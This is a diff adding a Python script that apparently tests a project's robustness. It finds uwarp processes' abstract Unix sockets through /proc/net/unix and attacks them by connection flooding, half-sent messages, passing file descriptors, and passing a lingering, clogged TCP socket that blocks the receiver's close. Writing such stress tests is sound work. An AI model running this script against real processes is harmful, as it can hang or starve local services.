@@ -1,0 +1,99 @@
+# SPDX-License-Identifier: GPL-2.0 OR Linux-OpenIB
+"""door.py ATTACK: calls at each abstract Unix socket that processes under uwarp listen on, where they
+hand shared memory to each other. Their names stand in /proc/net/unix for all users to read.
+
+flood        connects and leaves, without an end
+stay         connects, says half of something, and stays
+descriptors  sends four descriptors with each message
+linger       sends a TCP socket whose last close waits until its peer has taken what is in it
+"""
+
+import array
+import collections
+import contextlib
+import os
+import re
+import socket
+import struct
+import sys
+
+KEPT = 500
+PATTERN = re.compile(r"@(uwarp-[0-9a-f]+)$", re.M)
+
+attack = sys.argv[1]
+kept = collections.deque()
+
+
+def doors():
+    with open("/proc/net/unix", encoding="ascii", errors="replace") as table:
+        return sorted(set(PATTERN.findall(table.read())))
+
+
+def visit(name):
+    """A connection to a door, of whichever kind it is."""
+    for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
+        one = socket.socket(socket.AF_UNIX, kind)
+        one.setblocking(False)
+        try:
+            one.connect("\0" + name)
+            return one
+        except OSError:
+            one.close()
+    return None
+
+
+def keep(one):
+    kept.append(one)
+    if len(kept) > KEPT:
+        kept.popleft().close()
+
+
+def stuck_socket():
+    """Full of bytes that its peer, which is ours, does not take."""
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(1)
+        near = socket.create_connection(listener.getsockname())
+        far, _ = listener.accept()
+    near.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 4))
+    near.setblocking(False)
+    with contextlib.suppress(BlockingIOError):
+        while True:
+            near.send(bytes(65536))
+    near.setblocking(True)  # a close of a socket that does not block does not wait
+    keep(far)
+    return near
+
+
+def send_descriptors(one, descriptors):
+    rights = array.array("i", descriptors)
+    one.sendmsg([os.urandom(8)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
+
+
+def call(one):
+    if attack == "flood":
+        one.close()
+        return
+    if attack == "stay":
+        one.send(b"abc")
+    elif attack == "descriptors":
+        send_descriptors(one, [0, 0, 0, 0])
+    elif attack == "linger":
+        with stuck_socket() as stuck:
+            send_descriptors(one, [stuck.fileno()] * 3)
+    keep(one)
+
+
+print("ready", flush=True)
+calls = 0
+while True:
+    for door in doors():
+        for _ in range(200 if attack == "flood" else 5):
+            with contextlib.suppress(OSError):
+                visitor = visit(door)
+                if visitor is None:
+                    break
+                call(visitor)
+                calls += 1
+                if calls in (1, 1000):
+                    print("called", calls, flush=True)
